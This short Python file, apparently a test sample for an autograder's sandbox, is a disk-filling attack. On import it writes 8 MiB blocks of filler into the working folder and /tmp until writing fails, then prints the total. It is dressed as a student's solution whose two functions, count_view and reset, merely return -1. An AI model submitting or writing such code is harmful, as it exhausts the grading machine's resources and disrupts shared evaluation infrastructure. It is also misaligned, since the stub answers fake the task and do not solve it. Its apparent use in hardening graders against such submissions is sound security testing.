"""Attack: fill the grader's disk through the student's writable space: 8 MiB files (under the
per-file size limit) into the work folder and /tmp until writing fails; prints how much it wrote."""

import os


def _fill():
    total = 0
    block = b"x" * (1 << 20)
    for where in (os.getcwd(), "/tmp"):
        for i in range(24):
            try:
                with open(os.path.join(where, f"fill-{i}.bin"), "wb") as f:
                    for _ in range(8):
                        f.write(block)
                        total += 1
            except OSError:
                break
    return total


print(f"fill_disk wrote {_fill()} MiB", flush=True)


def count_view(r, post_id):
    return -1


def reset(r, post_id):
    return -1
